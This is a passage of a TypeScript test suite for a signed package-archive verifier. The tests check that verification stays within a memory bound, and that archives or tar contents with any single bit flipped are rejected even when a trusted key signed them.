  writeFileSync(file, signed(acme('1.0.0', data)));
  global.gc?.();
  const before = process.memoryUsage().rss;
  let highest = before;
  const watch = setInterval(() => (highest = Math.max(highest, process.memoryUsage().rss)), 10);
  t.after(() => clearInterval(watch));
  await verifyArchive(file);
  assert.ok(highest - before < 48 << 20, `${(highest - before) >> 20} MB`);
});

test('refuses an archive with any byte altered, or takes it for the same', async (t) => {
  const { keys, sign } = releaseKey(t);
  const home = temporaryFolder(t);
  const archive = sign(acme());
  const trust = await new TrustStore({ keys }).read();
  const file = join(home, 'acme.tgz');
  const taken: number[] = [];
  for (let at = 0; at < archive.length; at++) {
    const altered = Buffer.from(archive);
    altered[at]! ^= 1 << (at % 8);
    writeFileSync(file, altered);
    try {
      const { digest, signers } = await verifyArchive(file, { trust });
      assert.deepEqual([digest, signers], [sha256(acme().content), ['release']]);
      taken.push(at);
    } catch (error) {
      assert.equal((error as Error).name, 'RackwattError', `byte ${at}: ${String((error as Error).stack)}`);
    }
  }
  // The bits that fill the last byte of a compressed stream say nothing; behind the manifest no digest covers them.
  assert.ok(taken.length <= 1, `${taken.length} alterations passed`);
});

test('refuses a tar with any byte altered, though a trusted key signed it so', async (t) => {
  const { keys, key } = releaseKey(t);
  const trust = await new TrustStore({ keys }).read();
  const file = join(temporaryFolder(t), 'acme.tgz');
  const length = rawTar(soundFiles().map(({ path, content }) => ({ name: `package/${path}`, content }))).length;
  for (let at = 0; at < length; at += 11) {
    const tar = (entries: RawEntry[]): Buffer => {
      const bytes = rawTar(entries);
      bytes[at]! ^= 1 << (at % 8);
      return bytes;
    };
    writeFileSync(file, spoilt(key, { tar }));
    await assert.rejects(verifyArchive(file, { trust }), { code: 'ARCHIVE_INVALID' }, `byte ${at} of the tar`);
  }
});
